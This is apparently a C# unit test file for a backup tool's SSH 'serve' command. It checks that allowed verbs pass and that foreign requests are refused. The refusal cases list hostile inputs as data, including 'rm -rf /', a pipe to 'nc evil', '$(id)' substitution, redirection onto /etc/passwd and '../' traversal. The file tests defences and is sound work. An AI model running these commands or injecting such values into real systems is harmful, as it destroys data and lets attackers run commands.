using SnapshotBackup.Core.Copies;

namespace SnapshotBackup.Tests.Copies.Remote;

/// <summary>What <c>serve --copies DIR</c> accepts as a request, and everything it refuses before touching anything.</summary>
public sealed class ServeRequestTests
{
    private const string Dir = "/srv/backups/x";
    private const string Name = "2026-11-24T18:07:43+01:00";
    private const string Uuid = "0b6f9c1e-3d2a-4c8e-9f10-2a3b4c5d6e7f";

    private static (bool Ok, CopyRequest? Request, string Refusal) Forced(string original)
    {
        var ok = CopyServer.TryReadRequest(["--copies", Dir], original, out var request, out _, out var refusal);
        return (ok, ok ? request : null, refusal);
    }

    [TestCase("hello")]
    [TestCase("list")]
    [TestCase("df")]
    [TestCase("clean")]
    [TestCase("clean --dry-run")]
    [TestCase("delete " + Name)]
    [TestCase("receive " + Name + " " + Uuid)]
    public void What_the_client_writes_is_accepted(string verbAndArguments)
    {
        var parts = verbAndArguments.Split(' ');
        var command = CopyProtocol.RemoteCommand(Dir, parts[0], parts[1..]);

        var (ok, request, refusal) = Forced(command);

        Assert.That(ok, Is.True, refusal);
        Assert.That(request!.Directory, Is.EqualTo(Dir));
        Assert.That(request.Verb, Is.EqualTo(parts[0]));
        Assert.That(request.Arguments, Is.EqualTo(parts[1..]));
    }

    [Test]
    public void The_client_quotes_the_directory_and_a_quote_in_it_survives()
    {
        var dir = "/srv/it's here";
        var command = CopyProtocol.RemoteCommand(dir, "list");
        Assert.That(command, Is.EqualTo("snapshotbackup serve --copies '/srv/it'\\''s here' list"));

        var ok = CopyServer.TryReadRequest(["--copies", dir], command, out var request, out _, out var refusal);
        Assert.That(ok, Is.True, refusal);
        Assert.That(request.Directory, Is.EqualTo(dir));
    }

    [Test]
    public void Without_a_forced_command_the_request_is_the_arguments()
    {
        var ok = CopyServer.TryReadRequest(["--copies", Dir, "delete", Name], null, out var request, out _, out var refusal);
        Assert.That(ok, Is.True, refusal);
        Assert.That((request.Verb, request.Arguments[0]), Is.EqualTo(("delete", Name)));
    }

    [TestCase("id", "may only run")]
    [TestCase("rsync --server -vlogDtpre.iLsfxC . /", "may only run")]
    [TestCase("sh -c 'rm -rf /'", "may only run")]
    [TestCase("snapshotbackup serve --copies /other list", "serves only /srv/backups/x")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x/.. list", "serves only")]
    [TestCase("snapshotbackup serve --copies /srv/backups list", "serves only")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x/sub list", "serves only")]
    [TestCase("snapshotbackup serve --copies srv/backups/x list", "serves only")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x", "no request")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list extra", "takes 0 argument")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x hello; id", "shell character ';'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list && id", "shell character '&'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list | nc evil 1", "shell character '|'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list `id`", "shell character '`'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list $(id)", "shell character '$'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list > /etc/passwd", "shell character '>'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x list\nid", "shell character '\\x0a'")]
    [TestCase("snapshotbackup serve --copies \"/srv/backups/x\" list", "shell character '\"'")]
    [TestCase("snapshotbackup serve --copies '/srv/backups/x list", "unterminated quote")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x shell", "unknown request 'shell'")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x delete ../etc", "not a snapshot name")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x delete .incoming", "not a snapshot name")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x delete '2026-11-24T18:07:43+01:00/..'", "not a snapshot name")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x delete 'a/2026-11-24T18:07:43+01:00'", "not a snapshot name")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x receive ../2026-11-24T18:07:43+01:00 " + Uuid, "not a snapshot name")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x receive 2026-11-24T18:07:43+01:00 nouuid", "not a uuid")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x receive 2026-11-24T18:07:43+01:00", "takes 2 argument")]
    [TestCase("snapshotbackup serve --copies /srv/backups/x clean --force", "takes only --dry-run")]
    [TestCase("/usr/bin/snapshotbackup serve --copies /srv/backups/x list", "may only run")]
    [TestCase("snapshotbackup backup data1", "may only run")]
    [TestCase("", "may only run")]
    public void A_foreign_request_is_refused(string original, string why)
    {
        var (ok, _, refusal) = Forced(original);

        Assert.That(ok, Is.False);
        Assert.That(refusal, Does.Contain(why));
    }

    [Test]
    public void A_forced_command_that_names_a_verb_too_is_refused()
    {
        var ok = CopyServer.TryReadRequest(["--copies", Dir, "list"], CopyProtocol.RemoteCommand(Dir, "list"), out _, out _, out var refusal);
        Assert.That(ok, Is.False);
        Assert.That(refusal, Does.Contain("takes nothing after DIR"));
    }

    [TestCase("--copies")]
    [TestCase("--copies relative")]
    [TestCase("--copies /")]
    [TestCase("--copy /srv/backups/x list")]
    [TestCase("--copies user@host:/srv list")]
    public void A_bad_serve_command_line_is_refused(string arguments)
    {
        var ok = CopyServer.TryReadRequest(arguments.Split(' '), null, out _, out _, out var refusal);
        Assert.That(ok, Is.False, "accepted");
        Assert.That(refusal, Is.Not.Empty);
    }

    [Test]
    public async Task A_refusal_is_one_line_on_stderr_exit_2_and_opens_nothing()
    {
        var opened = 0;
        var server = new CopyServer(t => { opened++; throw new AssertionException("opened " + t); }, "0.1.0", () => 2);
        var output = new MemoryStream();
        var error = new StringWriter();

        var code = await server.RunAsync(["--copies", Dir], "id", new MemoryStream(), output, error, CancellationToken.None);

        Assert.That(code, Is.EqualTo(2));
        Assert.That(opened, Is.Zero);
        Assert.That(output.Length, Is.Zero);
        Assert.That(error.ToString().TrimEnd().Split('\n'), Has.Length.EqualTo(1));
        Assert.That(error.ToString(), Does.StartWith("snapshotbackup serve: refused: this key may only run"));
    }

    [Test]
    public void Entry_lines_round_trip()
    {
        var identity = new SubvolumeIdentity(Guid.NewGuid(), Guid.NewGuid(), Guid.Empty, true, 42);
        Assert.That(Core.Volume.SnapshotName.TryParse(Name, out var time), Is.True);
        var entry = new CopyEntry(Name, time, Core.Btrfs.SubvolumeKind.ReadOnlySubvolume, identity);
        var plain = new CopyEntry(Name, time, Core.Btrfs.SubvolumeKind.PlainDirectory, null);

        Assert.That(CopyProtocol.ParseEntry(CopyProtocol.FormatEntry(entry)), Is.EqualTo(entry));
        Assert.That(CopyProtocol.ParseEntry(CopyProtocol.FormatEntry(plain)), Is.EqualTo(plain));
        Assert.Throws<FormatException>(() => CopyProtocol.ParseEntry("x\ty"));
    }

    [Test]
    public void Hello_round_trips_and_a_foreign_answer_is_not_one()
    {
        var hello = CopyProtocol.ParseHello(CopyProtocol.FormatHello("1.2.3", 2));
        Assert.That(hello, Is.EqualTo(new RemoteHello(CopyProtocol.Version, "1.2.3", 2)));
        Assert.That(CopyProtocol.ParseHello("uid=0(root) gid=0(root)"), Is.Null);
    }

    [Test]
    public async Task The_destination_factory_opens_a_remote_target_over_ssh()
    {
        Assert.That(CopyTarget.TryParse("backup@example.org:/srv/backups/x", out var target, out _), Is.True);
        await using var destination = CopyDestinations.Open(target, "/backups/data1", Microsoft.Extensions.Logging.Abstractions.NullLogger.Instance);
        Assert.That(destination, Is.InstanceOf<RemoteCopyDestination>());
        Assert.That(destination.Target, Is.EqualTo(target));
    }
}
